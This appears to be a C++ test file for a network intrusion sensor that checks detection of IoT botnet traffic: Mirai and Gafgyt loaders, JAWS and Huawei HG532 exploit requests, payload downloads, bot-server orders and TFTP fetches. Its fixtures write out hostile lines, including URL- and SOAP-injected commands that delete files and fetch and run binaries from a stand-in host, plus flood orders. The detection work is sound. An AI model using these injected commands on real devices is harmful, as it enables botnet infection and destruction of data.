// What a bot leaves on the wire: attacks over HTTP, what is fetched, loaders at a telnet prompt, TFTP, talk with its server.
#include "dialogue_checks.hpp"
#include "sensor/dissectors.hpp"

#include <string>
#include <vector>

using namespace linnet;
using namespace linnet::test;

namespace {

struct Seen {
    ObservationKind kind;
    int entry;
    std::string subject;
    bool operator==(const Seen&) const = default;
};

std::vector<Seen> seen_in(const std::vector<Event>& events) {
    std::vector<Seen> seen;
    for (const auto& event : events) {
        const auto& o = std::get<Observation>(event);
        seen.push_back({o.kind, o.entry, o.subject});
    }
    return seen;
}

std::vector<Seen> observed(const StreamDissector& dissector, const Dialogue& dialogue) {
    check_every_prefix(dissector, dialogue);
    return seen_in(dialogue.read(dissector).events);
}

std::string get(const std::string& target, const std::string& fields = "Host: 198.51.100.7\r\n") {
    return "GET " + target + " HTTP/1.1\r\n" + fields + "\r\n";
}
std::string post(const std::string& target, const std::string& body, const std::string& fields = "") {
    return "POST " + target + " HTTP/1.1\r\nHost: 192.0.2.1\r\n" + fields +
           "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body;
}
std::string answer(const std::string& body, const std::string& fields = "") {
    return "HTTP/1.1 200 OK\r\n" + fields + "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body;
}

/// The beginning of an executable for a 32-bit ARM, little endian (System V gABI, figure 4-3).
std::string elf(std::size_t size = 52) {
    std::string bytes{
        "\x7f"
        "ELF\x01\x01\x01"};
    bytes.resize(16, '\0');
    bytes += std::string{"\x02\0\x28\0\x01\0\0\0", 8};
    bytes.resize(std::max(size, bytes.size()), '\0');
    return bytes;
}

const std::string shell_script = "#!/bin/sh\ncd /tmp\nwget http://198.51.100.7/x.arm7; chmod 777 x.arm7; ./x.arm7\n";

}  // namespace

TEST_CASE("HTTP: an attack is told of with its place alone, without what it carries") {
    Dialogue dialogue{80};
    dialogue.client(get("/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws;sh+/tmp/jaws"));
    dialogue.server("HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n");
    CHECK(observed(http_content, dialogue) ==
          std::vector<Seen>{
              {ObservationKind::exploit, 50, "MVPower and other JAWS recorders, Mirai, Mozi, CVE-2016-20016: /shell"}});
}

TEST_CASE("HTTP: percent-encoding hides nothing, and the port does not matter") {
    Dialogue dialogue{60001};
    dialogue.client(get("/%73hell?cd%20/tmp%3bwget%20http://198.51.100.7/x"));
    const auto seen = observed(http_content, dialogue);
    REQUIRE(seen.size() == 1);
    CHECK(seen[0].entry == 50);
}

TEST_CASE("SOAP: the attack is in the body, which arrives in pieces and is shorter than it says") {
    const std::string body =
        "<?xml version=\"1.0\" ?><s:Envelope><s:Body><u:Upgrade><NewStatusURL>$(/bin/busybox wget -g "
        "198.51.100.7 -l /tmp/.x -r /x)</NewStatusURL></u:Upgrade></s:Body></s:Envelope>";
    Dialogue dialogue{37215};
    dialogue.client("POST /upgrade HTTP/1.1\r\nContent-Length: 4000\r\n\r\n" + body);
    CHECK(observed(http_content, dialogue) ==
          std::vector<Seen>{
              {ObservationKind::exploit, 2, "Huawei HG532 upgrade service, Satori, Mozi, CVE-2017-17215: /upgrade"}});
}

TEST_CASE("HTTP: attacks after one another on one connection, each once; ordinary requests are silent") {
    Dialogue dialogue{80};
    dialogue.client(get("/index.html")).server(answer("hello"));
    dialogue.client(get("/setup.cgi?todo=syscmd&cmd=wget")).server(answer("no"));
    dialogue.client(get("/login.html?user=a&pwd=b")).server(answer("no"));
    dialogue.client(post("/ctrlt/DeviceUpgrade_1", "<a/>")).server(answer("no"));
    const auto seen = observed(http_content, dialogue);
    REQUIRE(seen.size() == 2);
    CHECK(seen[0].entry == 9);
    CHECK(seen[1].entry == 1);
    CHECK(dialogue.read(http_content).done_client > 0);
}

TEST_CASE("HTTP: what is fetched is known by its first bytes; host and path are told, the query is not") {
    struct Case {
        const char* what;
        std::string response;
        std::vector<Seen> expected;
    };
    using enum ObservationKind;
    const std::string where = "198.51.100.7:8080/bins/x.arm7";
    std::string image{"\x27\x05\x19\x56"};
    image.resize(600, '\1');
    const Case cases[] = {
        {"ELF", answer(elf()), {{executable, 0, where}}},
        {"ELF of unknown length", "HTTP/1.0 200 OK\r\n\r\n" + elf(2000), {{executable, 0, where}}},
        {"ELF in chunks",
         "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n34\r\n" + elf() + "\r\n0\r\n\r\n",
         {{executable, 0, where}}},
        {"script", answer(shell_script), {{ObservationKind::script, 0, where}}},
        {"script without its first line", answer(shell_script.substr(10)), {{ObservationKind::script, 0, where}}},
        {"U-Boot image", answer(image), {{firmware, 0, where}}},
        {"page", answer("<html>wget http://example.com</html>"), {}},
        {"Python", answer("#!/usr/bin/python3\nprint()\n"), {}},
        {"ELF magic and nonsense",
         answer("\x7f"
                "ELF and more text that is no header"),
         {}},
        {"object file", answer(std::string{elf()}.replace(16, 1, "\x01")), {}},
        {"too short",
         answer("\x7f"
                "ELF"),
         {}},
        {"an error page is no download", "HTTP/1.1 404 Not Found\r\n\r\n" + elf(), {}},
    };
    for (const auto& c : cases) {
        CAPTURE(c.what);
        Dialogue dialogue{8080};
        dialogue.client(get("/bins/x.arm7?token=secret", "Host: 198.51.100.7:8080\r\n")).server(c.response);
        CHECK(observed(http_content, dialogue) == c.expected);
    }
}

TEST_CASE("HTTP: the location of a request to a proxy loses its user and password") {
    Dialogue dialogue{3128};
    dialogue.client("GET http://anna:secret@198.51.100.7/x HTTP/1.1\r\nHost: proxy\r\n\r\n").server(answer(elf()));
    CHECK(observed(http_content, dialogue) == std::vector<Seen>{{ObservationKind::executable, 0, "198.51.100.7/x"}});
}

TEST_CASE("HTTP: a system image by its name must be large, binary and named as one") {
    const std::string body(600, '\x01');
    const auto seen_for = [&](const std::string& path, const std::string& length, const std::string& bytes) {
        Dialogue dialogue{80};
        dialogue.client(get(path)).server("HTTP/1.1 200 OK\r\nContent-Length: " + length + "\r\n\r\n" + bytes);
        return observed(http_content, dialogue).size();
    };
    CHECK(seen_for("/firmware/cam_v2.bin", "3000000", body) == 1);
    CHECK(seen_for("/firmware/cam_v2.bin", "1000", body) == 0);
    CHECK(seen_for("/game/level.bin", "3000000", body) == 0);
    CHECK(seen_for("/firmware/cam_v2.bin", "3000000", std::string(600, 'a')) == 0);
}

TEST_CASE("telnet: the loader's lines, each kind once, and the applet that does not exist") {
    Dialogue dialogue{23};
    dialogue.server("login: ").client("root\r\n").server("Password: ").client("secret\r\n").server("# ");
    dialogue.client("enable\r\n").server("# ").client("/bin/busybox OWARI\r\n").server("OWARI: applet not found\r\n# ");
    dialogue.client("/bin/busybox ps; /bin/busybox OWARI\r\n").server("# ");
    dialogue.client("cat /proc/mounts; /bin/busybox OWARI\r\n").server("# ");
    dialogue.client("echo -ne '\\x7f\\x45\\x4c\\x46' > upnp; /bin/busybox OWARI\r\n").server("# ");
    const auto seen = observed(loader_command, dialogue);
    REQUIRE(seen.size() == 3);
    CHECK(seen[0] == Seen{ObservationKind::loader_command, 0, "Loader's question to busybox"});
    CHECK(seen[1].entry == 202);
    CHECK(seen[2].entry == 206);
    for (const auto& s : seen) CHECK(s.subject.find("secret") == std::string::npos);
}

TEST_CASE("telnet: a person at work types nothing of the kind") {
    Dialogue dialogue{23};
    dialogue.server("login: ").client("root\r\n").server("# ").client("/bin/busybox ls /tmp\r\n").server("# ");
    dialogue.client("cat /proc/mounts\r\n").server("# ").client("wget http://example.com/readme.txt\r\n").server("# ");
    CHECK(observed(loader_command, dialogue).empty());
}

TEST_CASE("Mirai: greeting, heartbeat and an order") {
    using namespace std::string_literals;
    Dialogue dialogue{6667};
    dialogue.client("\0\0\0\1\4arm7"s).client("\0\0"s).server("\0\0"s);
    CHECK(observed(bot_talk, dialogue) ==
          std::vector<Seen>{{ObservationKind::bot_command, 0, "Mirai: a bot reports for duty"}});
    CHECK(dialogue.read(bot_talk).apps == std::vector<std::string>{"mirai"});
    // length 17: duration 60 s, vector 3 (SYN), one target 203.0.113.9/32, one option (7 = "80")
    dialogue.client("\0\0"s).server("\0\x11\0\0\0\x3c\3\1\xcb\0\x71\x09\x20\1\7\1\x50"s);
    CHECK(observed(bot_talk, dialogue).back() == Seen{ObservationKind::bot_command, 0, "Mirai: order to attack, SYN flood"});
}

TEST_CASE("Mirai: what only begins like a greeting is none") {
    using namespace std::string_literals;
    for (const auto& [client, server] :
         std::vector<std::pair<std::string, std::string>>{{"\0\0\0\1\4arm7"s, "\0\0"s},            // no heartbeat
                                                          {"\0\0\0\1\4arm7\0\0"s, "\0\5abc"s},     // no order
                                                          {"\0\0\0\1\xff\xff\xff"s, "\0\0\0\0"s},  // no name
                                                          {"\0\0\0\1\3\1\2\3\0\0"s, "\0\0"s},      // no printable name
                                                          {"\0\0\0\2\0\0\0"s, "\0\0"s}}) {
        Dialogue dialogue{4242};
        dialogue.client(client).server(server);
        CHECK(observed(bot_talk, dialogue).empty());
    }
}

TEST_CASE("Mirai: a report to port 48101 is told of without what it reports") {
    using namespace std::string_literals;
    const auto report = "\0\xc0\0\2\7\0\x17\4root\6xc3511"s;
    Dialogue dialogue{48101};
    dialogue.client(report);
    CHECK(observed(bot_talk, dialogue) ==
          std::vector<Seen>{{ObservationKind::bot_command, 0, "Mirai: report of a device whose password was found"}});
    Dialogue elsewhere{48102};
    elsewhere.client(report);
    CHECK(observed(bot_talk, elsewhere).empty());
}

TEST_CASE("streams of the list: Gafgyt's bot and its orders, and the Android debugging port") {
    Dialogue bot{4258};
    bot.client("BUILD MIPSEL\n").server("PING\n");
    CHECK(observed(bot_talk, bot).at(0).entry == 250);
    Dialogue orders{4258};
    orders.server("!* UDP 203.0.113.9 80 60 32 0 10\n");
    CHECK(observed(bot_talk, orders).at(0).entry == 251);
    Dialogue shell{5555};
    shell.client("CNXN\1\1\1\1host::OPENshell:cd /data/local/tmp; wget http://198.51.100.7/x");
    CHECK(observed(bot_talk, shell).at(0).kind == ObservationKind::exploit);
    Dialogue developer{5555};
    developer.client("CNXN\1\1\1\1host::OPENshell:logcat");
    CHECK(observed(bot_talk, developer).empty());
}

TEST_CASE("TFTP: a bot's file is asked for, a program comes; other names and blocks are silent") {
    using namespace std::string_literals;
    const auto seen_of = [](const std::string& payload, std::uint16_t port) {
        Packet packet;
        packet.proto = Proto::udp;
        packet.src = IpAddress::parse("192.168.1.5").value();
        packet.dst = IpAddress::parse("198.51.100.7").value();
        packet.src_port = {50000};
        packet.dst_port = {port};
        std::vector<Event> events;
        for (std::size_t size = 0; size <= payload.size(); ++size) {
            events.clear();
            const std::vector<char> exact{payload.begin(), payload.begin() + static_cast<std::ptrdiff_t>(size)};
            packet.payload = std::as_bytes(std::span{exact});
            if (tftp.wants(packet))
                tftp.inspect(packet, the_signatures(), [&](Event&& e) { events.push_back(std::move(e)); });
        }
        return seen_in(events);
    };
    CHECK(seen_of("\0\1mirai.arm7\0octet\0"s, 69) ==
          std::vector<Seen>{{ObservationKind::executable, 0, "198.51.100.7/mirai.arm7"}});
    CHECK(seen_of("\0\1/tftp1.sh\0OCTET\0"s, 69) ==
          std::vector<Seen>{{ObservationKind::script, 0, "198.51.100.7/tftp1.sh"}});
    CHECK(seen_of("\0\1pxelinux.0\0octet\0"s, 69).empty());
    CHECK(seen_of("\0\1mirai.arm7\0strange\0"s, 69).empty());
    CHECK(seen_of("\0\2mirai.arm7\0octet\0"s, 69).empty());
    CHECK(seen_of("\0\1mirai.arm7\0octet\0"s, 70).empty());
    CHECK(seen_of("\0\3\0\1"s + elf(512), 40000) == std::vector<Seen>{{ObservationKind::executable, 0, "192.168.1.5"}});
    CHECK(seen_of("\0\3\0\2"s + elf(512), 40000).empty());
}
